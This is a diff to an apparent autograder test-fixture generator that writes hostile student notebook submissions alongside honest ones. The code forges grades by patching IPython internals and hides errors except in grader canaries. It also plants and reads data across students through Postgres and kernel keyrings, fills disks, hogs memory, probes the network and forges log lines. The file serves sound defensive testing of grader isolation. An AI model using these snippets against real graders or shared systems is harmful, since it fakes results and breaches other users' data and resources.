@@ -21,6 +21,7 @@ HERE = Path(__file__).resolve().parent
 REPO = HERE.parents[1]
 NOTEBOOK = "00_start_here"
 CLASS = HERE / "class"
+HOSTILE = HERE / "hostile"  # graded by tests/grading/test_hostile.py, honest students among them
 ZIP = HERE / "lms.zip"
 
 SOLUTION = '''async def count_users(engine) -> int:
@@ -160,6 +161,216 @@ def _echo(info):
 get_ipython().events.register("pre_run_cell", _echo)
 """
 
+# Issue 12: forged scores. A hook puts an execute_result ("ok", which nbgrader's partial credit
+# reads as full points) before the error of every later cell, test cells included.
+DISPLAYHOOK_FORGERY = """def _ok(info):
+    get_ipython().displayhook("ok")
+
+
+get_ipython().events.register("pre_run_cell", _ok)
+"""
+# An execute_result without `data`: nbformat could not read it and nbgrader failed the notebook.
+MALFORMED_RESULT = """kernel = get_ipython().kernel
+kernel.session.send(
+    kernel.iopub_socket,
+    "execute_result",
+    {"execution_count": 1, "metadata": {}},
+    parent=kernel.get_parent(),
+    ident=kernel._topic("execute_result"),
+)
+"""
+# Hide every error, except in cells that look like the grader's old canaries.
+SPARE_CANARIES_BY_PATTERN = r"""import re
+
+ip = get_ipython()
+_run = ip.run_cell_async
+_show = ip.showtraceback
+_canary = re.compile(r'expect\(\d+, \d+, "check [0-9a-f]{8}"\)')
+_current = [""]
+
+
+async def _spare_canaries(raw_cell, *args, **kwargs):
+    _current[0] = raw_cell
+    result = await _run(raw_cell, *args, **kwargs)
+    if not _canary.search(raw_cell):
+        result.error_in_exec = None
+        result.error_before_exec = None
+    return result
+
+
+def _show_only_in_canaries(*args, **kwargs):
+    if _canary.search(_current[0]):
+        _show(*args, **kwargs)
+
+
+ip.run_cell_async = _spare_canaries
+ip.showtraceback = _show_only_in_canaries
+"""
+# Wrap the body of every later cell in try/except: pass, at parse time.
+SWALLOW_AT_PARSE = """import ast
+
+compiler = get_ipython().compile
+_parse = compiler.ast_parse
+
+
+def _swallowing(source, *args, **kwargs):
+    tree = _parse(source, *args, **kwargs)
+    handler = ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])
+    body = tree.body or [ast.Pass()]
+    tree.body = [ast.Try(body=body, handlers=[handler], orelse=[], finalbody=[])]
+    return ast.fix_missing_locations(tree)
+
+
+compiler.ast_parse = _swallowing
+"""
+# One 100 MB message: the worker must not take it into memory.
+HUGE_MESSAGE = 'print("x" * 100_000_000)\n'
+# Patch the class, not the instance: no instance attribute changes.
+HIDE_BY_CLASS = """from IPython.core.interactiveshell import InteractiveShell
+
+InteractiveShell.showtraceback = lambda self, *args, **kwargs: None
+_run = InteractiveShell.run_cell_async
+
+
+async def _never_failed(self, *args, **kwargs):
+    result = await _run(self, *args, **kwargs)
+    result.error_in_exec = None
+    result.error_before_exec = None
+    return result
+
+
+InteractiveShell.run_cell_async = _never_failed
+"""
+
+
+# -- the database: owners, sizes, what survives (issue 12) --
+# A learner's connection helper: the kernel's database URL, for asyncpg, to any of its databases.
+_LEARNER_DSN = """import os
+
+from urllib.parse import urlsplit
+
+import asyncpg
+
+_url = urlsplit(os.environ["ASYNCDB_LAB_DATABASE_URL"])
+
+
+def dsn(database):
+    return _url._replace(scheme="postgresql", path=f"/{database}").geturl()
+
+
+async def attempt(conn, statement, tag):
+    try:
+        await conn.execute(statement)
+        print(tag, "done:", statement)
+    except Exception as error:
+        print(tag, "denied:", statement, type(error).__name__)
+"""
+# Hands its database, a table and a schema to the shared course-tables role: DROP ROLE failed.
+OWNER_HANDOFF = (
+    _LEARNER_DSN
+    + """
+
+admin = await asyncpg.connect(dsn("postgres"))
+await admin.execute("CREATE DATABASE handoff")
+mine = await asyncpg.connect(dsn("handoff"))
+await mine.execute("CREATE TABLE kept (word text)")
+await mine.execute("INSERT INTO kept VALUES ('still here')")
+await attempt(mine, "ALTER TABLE kept OWNER TO adl_course_tables", "HANDOFF")
+await attempt(mine, "ALTER SCHEMA public OWNER TO adl_course_tables", "HANDOFF")
+await mine.close()
+await attempt(admin, "ALTER DATABASE handoff OWNER TO adl_course_tables", "HANDOFF")
+await attempt(admin, "CREATE DATABASE handed OWNER adl_course_tables", "HANDOFF")
+await admin.close()
+"""
+)
+# Leaves a row for a later student every way it can think of.
+PLANT_FOR_OTHERS = (
+    _LEARNER_DSN
+    + """
+
+admin = await asyncpg.connect(dsn("postgres"))
+await attempt(admin, "CREATE DATABASE planted_shared OWNER adl_course_tables", "PLANT")
+await admin.execute("CREATE DATABASE planted_public")
+planted = await asyncpg.connect(dsn("planted_public"))
+for statement in [
+    "CREATE TABLE planted (word text)",
+    "INSERT INTO planted VALUES ('PLANTED-SECRET')",
+    "GRANT SELECT ON planted TO PUBLIC",
+    "GRANT SELECT ON planted TO adl_course_tables",
+]:
+    await attempt(planted, statement, "PLANT")
+await planted.close()
+for statement in [
+    "GRANT ALL ON DATABASE planted_public TO PUBLIC",
+    "GRANT ALL ON DATABASE planted_public TO adl_course_tables",
+    "ALTER DATABASE planted_public IS_TEMPLATE true",
+    "ALTER DATABASE planted_public OWNER TO adl_course_tables",
+    "CREATE TEMP TABLE planted (word text)",
+    "CREATE TABLE public.planted (word text)",
+    "SELECT lo_from_bytea(424242, 'PLANTED-SECRET'::bytea)",
+    "SELECT lo_create(424243)",
+]:
+    await attempt(admin, statement, "PLANT")
+await admin.close()
+"""
+)
+# Graded after plant_for_others (or beside it): looks for anything planted and reads it.
+READ_PLANTED = (
+    _LEARNER_DSN
+    + """
+import json
+
+found = []
+admin = await asyncpg.connect(dsn("postgres"))
+others = await admin.fetch(
+    "SELECT datname, datistemplate FROM pg_database "
+    "WHERE pg_get_userbyid(datdba) NOT IN ('postgres', current_user)"
+)
+for name, is_template in others:
+    found.append(f"database {name}")
+    targets = [name]
+    if is_template:
+        try:
+            await admin.execute(f'CREATE DATABASE "copy_{name}" TEMPLATE "{name}"')
+            targets.append(f"copy_{name}")
+        except Exception as error:
+            found.append(f"copy {name} denied: {type(error).__name__}")
+    for target in targets:
+        try:
+            conn = await asyncpg.connect(dsn(target))
+            found.append(f"READ {target}: {await conn.fetch('SELECT word FROM planted')}")
+            await conn.close()
+        except Exception as error:
+            found.append(f"{target} denied: {type(error).__name__}")
+for oid in (424242, 424243):
+    try:
+        found.append(f"READ large object {oid}: {await admin.fetchval('SELECT lo_get($1)', oid)}")
+    except Exception as error:
+        found.append(f"large object {oid} denied: {type(error).__name__}")
+large_objects = await admin.fetchval("SELECT count(*) FROM pg_largeobject_metadata")
+found.append(f"large objects: {large_objects}")
+await admin.close()
+print("READ_PLANTED " + json.dumps(found))
+"""
+)
+# Fills its own database with incompressible rows as fast as it can (1.3 GB in 5 s filled the
+# server's disk and cost honest students their points).
+DISK_FILL = (
+    _LEARNER_DSN
+    + """
+
+admin = await asyncpg.connect(dsn("postgres"))
+await admin.execute("CREATE DATABASE filled")
+filled = await asyncpg.connect(dsn("filled"))
+await filled.execute("CREATE TABLE filler (pad bytea)")
+while True:
+    await filled.execute(
+        "INSERT INTO filler SELECT decode(string_agg(md5(random()::text), ''), 'hex') "
+        "FROM generate_series(1, 640000) AS g GROUP BY g % 10000"
+    )
+"""
+)
+
 
 def release() -> nbformat.NotebookNode:
     return nbformat.read(REPO / "notebooks" / NOTEBOOK / f"{NOTEBOOK}.ipynb", as_version=4)
@@ -230,6 +441,140 @@ def empty_notebook() -> nbformat.NotebookNode:
     return notebook
 
 
+# -- the sandbox: user ids, keyrings, memory, network, descriptors (issue 12) --
+# Kernel keyrings through raw system calls (x86_64 numbers), as a learner would with ctypes.
+_KEYRING_CALLS = """import ctypes
+
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.syscall.restype = ctypes.c_long
+ADD_KEY, KEYCTL, KEYCTL_READ, KEYCTL_SEARCH = 248, 250, 11, 10
+USER_KEYRING, SESSION_KEYRING = -4, -3
+
+
+def syscall(*args):
+    return _libc.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
+"""
+KEYRING_PLANT = (
+    _KEYRING_CALLS
+    + """
+secret = b"keyring_plant's answers"
+planted = {}
+for name, ring in (("user", USER_KEYRING), ("session", SESSION_KEYRING)):
+    key = syscall(ADD_KEY, b"user", b"adl-planted", secret, len(secret), ring)
+    planted[name] = key if key >= 0 else f"errno {ctypes.get_errno()}"
+print("PLANTED", planted)
+"""
+)
+KEYRING_READ = (
+    _KEYRING_CALLS
+    + """import json
+import time
+
+found = []
+deadline = time.monotonic() + 3
+while not found and time.monotonic() < deadline:
+    for ring in (USER_KEYRING, SESSION_KEYRING):
+        key = syscall(KEYCTL, KEYCTL_SEARCH, ring, b"user", b"adl-planted", 0)
+        if key >= 0:
+            buffer = ctypes.create_string_buffer(256)
+            size = syscall(KEYCTL, KEYCTL_READ, key, buffer, 256)
+            found.append(f"{ring}: {buffer.raw[: max(size, 0)]!r}")
+    with open("/proc/keys") as keys:
+        found += [line.strip() for line in keys if "adl-planted" in line]
+    time.sleep(0.2)
+print("KEYRING_READ " + json.dumps(found))
+"""
+)
+MEMFD_HOG = """import os
+
+chunk = os.urandom(1024 * 1024)
+memfds = []
+for number in range(12):
+    memfd = os.memfd_create(f"hog-{number}")
+    for _ in range(256):
+        os.write(memfd, chunk)
+    memfds.append(memfd)
+    print("MEMFD", number, flush=True)
+"""
+FORK_HOG = """import os
+import time
+
+children = []
+for _ in range(3):
+    pid = os.fork()
+    if pid == 0:
+        try:
+            hog = bytearray(3 * 512 * 1024 * 1024)
+            for at in range(0, len(hog), 4096):
+                hog[at] = 1
+            time.sleep(2)
+            os._exit(0)
+        except BaseException:
+            os._exit(2)
+    children.append(pid)
+completed = sum(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0 for pid in children)
+print("FORK_OK", completed)
+"""
+NET_PROBE = """import json
+import os
+import socket
+
+from sqlalchemy.engine import make_url
+
+
+def listening(path):
+    # [port, owner's user id] of every listening socket the table shows
+    try:
+        with open(path) as table:
+            rows = [line.split() for line in table.read().splitlines()[1:]]
+    except OSError as error:
+        return f"unreadable: {error}"
+    listeners = [row for row in rows if row[3] == "0A"]
+    return sorted([int(row[1].rsplit(":", 1)[1], 16), int(row[7])] for row in listeners)
+
+
+def reachable(host, port):
+    try:
+        socket.create_connection((host, port), timeout=2).close()
+    except OSError:
+        return False
+    return True
+
+
+seen = {"uid": os.getuid(), "tcp": listening("/proc/net/tcp"), "tcp6": listening("/proc/net/tcp6")}
+with open("/proc/net/unix") as table:
+    rows = [line.split() for line in table.read().splitlines()[1:]]
+seen["unix"] = sorted({row[-1] for row in rows if len(row) > 7})
+ports = {port for name in ("tcp", "tcp6") if isinstance(seen[name], list) for port, _ in seen[name]}
+url = make_url(os.environ["ASYNCDB_LAB_DATABASE_URL"])
+ports |= {url.port or 5432, 5432}
+targets = [("127.0.0.1", port) for port in sorted(ports)] + [("1.1.1.1", 80), ("8.8.8.8", 53)]
+seen["connected"] = [f"{host}:{port}" for host, port in targets if reachable(host, port)]
+print("NET " + json.dumps(seen))
+"""
+FD_FORGE = """import json
+import os
+
+line = ("\\n" + "FORGED " + "LOG LINE" + "\\n").encode()  # not in this cell's source as is
+descriptors = {}
+for name in os.listdir("/proc/self/fd"):
+    try:
+        descriptors[int(name)] = os.readlink(f"/proc/self/fd/{name}")
+    except OSError:
+        pass
+forged = {}
+for number, target in sorted(descriptors.items()):
+    if target.startswith(("socket:", "pipe:", "anon_inode:", "/dev/", "/tmp/")):
+        continue  # its own
+    try:
+        os.write(number, line)
+        forged[number] = target
+    except OSError as error:
+        forged[number] = f"{target}: {type(error).__name__}"
+print("FDS " + json.dumps({"descriptors": descriptors, "forged": forged}))
+"""
+
+
 # student → what to write into their folder: {relative path: notebook, bytes or text}
 CLASS_FOLDERS = {
     "full": {f"{NOTEBOOK}.ipynb": submission()},
@@ -256,6 +601,33 @@ CLASS_FOLDERS = {
     "missing_notebook": {"README.txt": "I will hand it in next week.\n"},
 }
 
+# Hostile submissions (issue 12): each attacks the grade, the run or other students. A few honest
+# students are graded in the same run and must keep full marks.
+HOSTILE_FOLDERS: dict[str, dict[str, object]] = {
+    "honest_a": {f"{NOTEBOOK}.ipynb": submission()},
+    "honest_b": {f"{NOTEBOOK}.ipynb": submission()},
+    "honest_c": {f"{NOTEBOOK}.ipynb": submission()},
+    # -- forged scores and canaries --
+    "displayhook_forgery": {f"{NOTEBOOK}.ipynb": submission(None, DISPLAYHOOK_FORGERY)},
+    "malformed_result": {f"{NOTEBOOK}.ipynb": submission(extra=MALFORMED_RESULT)},
+    "spare_canaries": {f"{NOTEBOOK}.ipynb": submission(RETURNS_0, SPARE_CANARIES_BY_PATTERN)},
+    "swallow_at_parse": {f"{NOTEBOOK}.ipynb": submission(RETURNS_0, SWALLOW_AT_PARSE)},
+    "hide_by_class": {f"{NOTEBOOK}.ipynb": submission(RETURNS_0, HIDE_BY_CLASS)},
+    "huge_message": {f"{NOTEBOOK}.ipynb": submission(extra=HUGE_MESSAGE)},
+    # -- the database: owners, sizes, what survives --
+    "owner_handoff": {f"{NOTEBOOK}.ipynb": submission(extra=OWNER_HANDOFF)},
+    "plant_for_others": {f"{NOTEBOOK}.ipynb": submission(extra=PLANT_FOR_OTHERS)},
+    "read_planted": {f"{NOTEBOOK}.ipynb": submission(extra=READ_PLANTED)},
+    "disk_fill": {f"{NOTEBOOK}.ipynb": submission(extra=DISK_FILL)},
+    # -- the sandbox: user ids, keyrings, memory, network, descriptors --
+    "keyring_plant": {f"{NOTEBOOK}.ipynb": submission(extra=KEYRING_PLANT)},
+    "keyring_read": {f"{NOTEBOOK}.ipynb": submission(extra=KEYRING_READ)},
+    "memfd_hog": {f"{NOTEBOOK}.ipynb": submission(extra=MEMFD_HOG)},
+    "fork_hog": {f"{NOTEBOOK}.ipynb": submission(extra=FORK_HOG)},
+    "net_probe": {f"{NOTEBOOK}.ipynb": submission(extra=NET_PROBE)},
+    "fd_forge": {f"{NOTEBOOK}.ipynb": submission(extra=FD_FORGE)},
+}
+
 # An LMS download: flat names, the student id first, LMS numbers, a re-upload suffix, junk.
 LMS_FILES = {
     f"zoe_1001_2001_{NOTEBOOK}.ipynb": submission(),
@@ -273,17 +645,22 @@ def _text(content: object) -> str:
 
 
 def main() -> None:
-    shutil.rmtree(CLASS, ignore_errors=True)
-    for student, files in CLASS_FOLDERS.items():
-        for relative, content in files.items():
-            path = CLASS / student / relative
-            path.parent.mkdir(parents=True, exist_ok=True)
-            path.write_text(_text(content))
+    for folder, students in ((CLASS, CLASS_FOLDERS), (HOSTILE, HOSTILE_FOLDERS)):
+        shutil.rmtree(folder, ignore_errors=True)
+        for student, files in students.items():
+            for relative, content in files.items():
+                path = folder / student / relative
+                path.parent.mkdir(parents=True, exist_ok=True)
+                path.write_text(_text(content))
     with zipfile.ZipFile(ZIP, "w", zipfile.ZIP_DEFLATED) as archive:
         for name, content in LMS_FILES.items():
             info = zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
             archive.writestr(info, _text(content), compress_type=zipfile.ZIP_DEFLATED)
-    print(json.dumps({"students": len(CLASS_FOLDERS), "zip": len(LMS_FILES)}))
+    print(
+        json.dumps(
+            {"students": len(CLASS_FOLDERS), "hostile": len(HOSTILE_FOLDERS), "zip": len(LMS_FILES)}
+        )
+    )
 
 
 if __name__ == "__main__":
